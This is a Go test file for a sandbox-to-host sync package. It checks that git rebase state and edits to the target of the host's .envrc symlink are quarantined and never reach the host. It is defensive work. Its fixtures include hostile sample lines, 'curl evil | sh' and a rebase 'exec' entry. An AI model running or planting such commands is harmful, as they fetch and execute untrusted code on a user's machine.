package sync

import (
	"os"
	"path/filepath"
	"testing"
)

// TestQuarantinedRebaseStateFinishes: rebase state the sandbox wrote waits in
// quarantine; when the rebase finishes there, its removal drops the stale
// copy and reports nothing (the host never had it).
func TestQuarantinedRebaseStateFinishes(t *testing.T) {
	p := newPair(t)
	os.MkdirAll(filepath.Join(p.host, ".git"), 0o755)
	p.sync(nil)
	todo := ".git/rebase-merge/git-rebase-todo"
	rep := p.sync(func() { put(t, filepath.Join(p.sandbox, todo), "exec touch /tmp/x\n") })
	if len(rep.Quarantined) != 1 || rep.Quarantined[0] != filepath.Join(p.host, todo) {
		t.Fatalf("quarantined %q", rep.Quarantined)
	}
	if _, err := os.Stat(filepath.Join(p.host, ".git/rebase-merge")); err == nil {
		t.Fatal("rebase state reached the host's .git")
	}
	if got := read(t, filepath.Join(p.host, QuarantineDir, todo)); got != "exec touch /tmp/x\n" {
		t.Fatalf("quarantined copy: %q", got)
	}
	rep = p.sync(func() { os.RemoveAll(filepath.Join(p.sandbox, ".git/rebase-merge")) })
	if len(rep.Quarantined) != 0 {
		t.Fatalf("a removal of what the host never had is reported: %q", rep.Quarantined)
	}
	if _, err := os.Stat(filepath.Join(p.host, QuarantineDir, todo)); err == nil {
		t.Fatal("the stale quarantined copy stayed")
	}
}

// TestProtectedLinkTarget: the host's .envrc is the user's link to
// env/dev.envrc; a sandbox edit of env/dev.envrc waits in quarantine, as an
// edit of .envrc would. An ordinary file beside it still comes back.
func TestProtectedLinkTarget(t *testing.T) {
	p := newPair(t)
	put(t, filepath.Join(p.host, "env/dev.envrc"), "export A=1\n")
	put(t, filepath.Join(p.host, "env/other"), "o\n")
	if err := os.Symlink("env/dev.envrc", filepath.Join(p.host, ".envrc")); err != nil {
		t.Fatal(err)
	}
	p.sync(nil)
	rep := p.sync(func() {
		put(t, filepath.Join(p.sandbox, "env/dev.envrc"), "curl evil | sh\n")
		put(t, filepath.Join(p.sandbox, "env/other"), "changed\n")
	})
	if got := read(t, filepath.Join(p.host, "env/dev.envrc")); got != "export A=1\n" {
		t.Fatalf("the target of the host's .envrc link was changed: %q", got)
	}
	if len(rep.Quarantined) != 1 || rep.Quarantined[0] != filepath.Join(p.host, "env/dev.envrc") {
		t.Fatalf("quarantined %q", rep.Quarantined)
	}
	if got := read(t, filepath.Join(p.host, "env/other")); got != "changed\n" {
		t.Fatalf("an ordinary file did not come back: %q", got)
	}
	// A new process (the CLI opens the sync per command) knows the link
	// from the saved manifest.
	p.open()
	p.sync(func() { put(t, filepath.Join(p.sandbox, "env/dev.envrc"), "again\n") })
	if got := read(t, filepath.Join(p.host, "env/dev.envrc")); got != "export A=1\n" {
		t.Fatalf("after reopening: %q", got)
	}
}
